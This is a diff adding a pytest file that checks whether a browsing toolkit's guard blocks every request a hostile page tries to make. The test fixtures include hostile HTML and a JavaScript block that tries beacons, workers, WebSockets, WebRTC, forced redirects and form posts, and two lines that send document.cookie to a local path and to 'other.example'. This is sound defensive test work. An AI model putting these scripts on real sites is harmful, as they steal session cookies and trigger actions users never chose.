@@ -1,0 +1,158 @@
+"""Pages that try to write or to leak: the log of the practice toolkit shows that nothing came through."""
+
+from __future__ import annotations
+
+import contextlib
+from pathlib import Path
+
+import pytest
+
+from dsptscan.errors import GuardStopped
+from dsptscan.practice import Answer, PracticeToolkit
+from dsptscan.practice.desk import login_page
+from dsptscan.toolkit.session import Session
+from tests.toolkit.conftest import SignIn, arrived
+from tests.toolkit.site import LIST, page, write_site
+
+QUIET_PARTS = """
+<img src="/Assessment/Publish?img"><img src="https://other.example/x.png"><link rel="prefetch" href="/Q/prefetched">
+<link rel="preload" as="fetch" href="/Q/preloaded"><link rel="stylesheet" href="/Assessment/Delete.css">
+<link rel="stylesheet" href="https://other.example/x.css"><link rel="manifest" href="/manifest">
+<iframe src="/Help"></iframe><noscript><iframe src="https://other.example/"></iframe><img src="/noscript"></noscript>
+<object data="/object"></object><embed src="/embed"><video src="/video" autoplay></video>
+<script type="speculationrules">{"prerender":[{"source":"list","urls":["/Q/rules"],"eagerness":"immediate"}],
+"prefetch":[{"source":"list","urls":["/Q/rules2"],"eagerness":"immediate"}]}</script>
+<script>fetch('/script', {method: 'POST'}); new WebSocket('ws://' + location.host + '/socket');</script>
+<a href="javascript:fetch('/link', {method: 'POST'})">x</a><a href="/Q/9" target="_blank" ping="/ping">y</a>
+"""
+# Everything a sign-in page with scripts can try as it is shown and as it is left, short of moving to another page.
+SCRIPTS = """
+const post = path => fetch(path, {method: 'POST', body: 'x'}).catch(() => 0);
+const safely = act => { try { act(); } catch { } };
+const socket = path => safely(() => new WebSocket('ws://' + location.host + path));
+post('/fetch'); socket('/socket');
+safely(() => { const x = new XMLHttpRequest(); x.open('POST', '/xhr'); x.send('x'); });
+safely(() => new EventSource('/events'));
+safely(() => navigator.sendBeacon('/beacon', 'x'));
+safely(() => new Worker(URL.createObjectURL(new Blob([`
+  fetch('${location.origin}/blob', {method: 'POST'}); new WebSocket('ws://${location.host}/blobsocket')`]))));
+safely(() => new Worker('/worker.js'));
+safely(() => new SharedWorker('/shared.js'));
+safely(() => navigator.serviceWorker.register('/service.js').catch(() => 0));
+safely(() => { const f = document.createElement('iframe'); document.body.append(f);
+  const d = f.contentDocument; new f.contentWindow.WebSocket('ws://' + location.host + '/framesocket');
+  d.body.innerHTML = '<form method=post action=/frameform></form>'; });
+safely(() => { const r = document.createElement('script'); r.type = 'speculationrules';
+  r.textContent = JSON.stringify({prerender: [{source: 'list', urls: ['/later'], eagerness: 'immediate'}],
+    prefetch: [{source: 'list', urls: ['/later2'], eagerness: 'immediate'}]}); document.head.append(r); });
+safely(() => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + location.port}]});
+  c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)); });
+safely(() => { new Image().src = '/pixel?' + document.cookie; });
+safely(() => { new Image().src = 'https://other.example/?' + document.cookie; });
+for (const end of ['pagehide', 'beforeunload', 'unload', 'visibilitychange']) addEventListener(end, () => {
+  navigator.sendBeacon('/left-beacon', 'x'); fetch('/left-keepalive', {method: 'POST', keepalive: true, body: 'x'}); });
+document.forms[0].addEventListener('submit', () => {
+  navigator.sendBeacon('/submit-beacon', 'x'); fetch('/submit', {method: 'POST', keepalive: true, body: 'x'}); });
+document.title = 'scripts ran';
+"""
+
+
+def hostile_login(toolkit: PracticeToolkit, script: str, head: str = "") -> None:
+    """A sign-in page that only shows its form by script, with `script` beside it."""
+    cookie, hidden = toolkit.desk.new_form()
+    form = login_page(hidden, "", "").partition("<form")[2].partition("</form>")[0]
+    shown = f"document.getElementById('here').innerHTML = `<form{form}</form>`;"
+    html = page(f"<h1>Log in</h1><div id=here></div><script>{shown}{script}</script>", head)
+    headers = (("Set-Cookie", f"__RequestVerificationToken={cookie}; HttpOnly"),)
+    toolkit.extra["GET /Account/Login"] = Answer(200, html.encode(), headers, open_to_all=True)
+
+
+def read_on(session: Session, opened: str, fetched: str) -> None:
+    """Read on, whatever the guard says, as a careless caller would."""
+    with contextlib.suppress(GuardStopped):
+        session.open(opened)
+    list(session.fetch([fetched]))
+
+
+def test_a_list_page_that_tries_everything_quietly(tmp_path: Path, sign_in: SignIn) -> None:
+    site = write_site(tmp_path / "layout", list=page(LIST + QUIET_PARTS))
+    with PracticeToolkit(site) as toolkit, sign_in(toolkit) as session:
+        listed = session.open("/Assessment")
+        read = list(session.fetch(["/Q/1", "/Q/2"]))
+        assert listed.link_colours["/Q/1"] == "rgb(200, 10, 20)"
+        assert all("</html>" in str(found.html) for found in read)
+        assert sorted(arrived(toolkit)) == sorted(session.sent)
+        assert {path for method, path in session.sent} == {
+            "/Account/Login",
+            "/Home",
+            "/Content/style.css",
+            "/Assessment",
+            "/Q/1",
+            "/Q/2",
+        }
+        assert session.refused["another site"] >= 2
+        assert session.refused["a frame"] >= 1
+
+
+def test_a_sign_in_page_whose_scripts_try_everything(toolkit: PracticeToolkit, sign_in: SignIn) -> None:
+    rules = '{"prefetch":[{"source":"list","urls":["/rules"],"eagerness":"immediate"}]}'
+    hostile_login(toolkit, SCRIPTS, f'<script type="speculationrules">{rules}</script>')
+    with sign_in(toolkit) as session:
+        assert [found.url for found in session.fetch(["/Q/1"])] == [f"{toolkit.url}/Q/1"]
+        sent = session.sent
+    assert sorted(arrived(toolkit)) == sorted(sent)
+    assert [path for _, path in sent] == [*["/Account/Login"] * 3, "/Home", "/Content/style.css", "/Q/1"]
+    assert [request.path for request in toolkit.log if request.method != "GET"] == ["/Account/Login"]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "location = '/Assessment/Publish';",
+        "const f = document.createElement('form'); f.method = 'post'; f.action = '/Account/Register';"
+        "document.body.append(f); f.submit();",
+        "window.open('/Assessment/Publish');",
+    ],
+)
+def test_a_sign_in_page_that_moves_to_another_page(toolkit: PracticeToolkit, sign_in: SignIn, script: str) -> None:
+    hostile_login(toolkit, script)
+    with pytest.raises(GuardStopped), sign_in(toolkit):
+        pass
+    assert set(arrived(toolkit)) <= {("GET", "/Account/Login")}
+
+
+def test_a_question_that_redirects_to_a_confirm_page(toolkit: PracticeToolkit, sign_in: SignIn) -> None:
+    toolkit.extra["/q/1"] = Answer(302, headers=(("Location", "/Assessment/Confirm"),))
+    with pytest.raises(GuardStopped), sign_in(toolkit) as session:
+        read_on(session, "/Q/1", "/Q/2")
+    assert arrived(toolkit)[-1] == ("GET", "/Q/1")
+
+
+def test_a_list_that_redirects_to_a_publish_page(toolkit: PracticeToolkit, sign_in: SignIn) -> None:
+    toolkit.extra["/assessment"] = Answer(302, headers=(("Location", "/Assessment/Publish"),))
+    with pytest.raises(GuardStopped), sign_in(toolkit) as session:
+        session.open("/Assessment")
+    assert arrived(toolkit)[-1] == ("GET", "/Assessment")
+
+
+@pytest.mark.parametrize("where", ["list", "home"])
+def test_a_page_that_refreshes_to_a_publish_path(tmp_path: Path, sign_in: SignIn, where: str) -> None:
+    hostile = page(LIST, '<meta http-equiv="refresh" content="0; url=/Assessment/Publish">')
+    site = write_site(tmp_path / "layout", **{where: hostile})
+    with PracticeToolkit(site) as toolkit:
+        with pytest.raises(GuardStopped), sign_in(toolkit) as session:
+            read_on(session, "/Assessment", "/Q/1")
+        assert not [path for _, path in arrived(toolkit) if "Publish" in path]
+
+
+def test_a_policy_that_forbids_fetch_and_one_that_reports(tmp_path: Path, sign_in: SignIn) -> None:
+    strict = page(LIST).encode()
+    policy = ("Content-Security-Policy", "default-src 'none'; report-uri /report")
+    with PracticeToolkit(write_site(tmp_path / "layout")) as toolkit:
+        toolkit.extra["/assessment"] = Answer(200, strict, (policy, ("Speculation-Rules", '"/rules.json"')))
+        with sign_in(toolkit) as session:
+            session.open("/Assessment")
+            assert len(list(session.fetch(["/Q/1", "/Q/2"]))) == 2
+            refused = session.refused
+        assert not {"/report", "/rules.json"} & {path for _, path in arrived(toolkit)}
+        assert refused["a browser's report"] >= 1
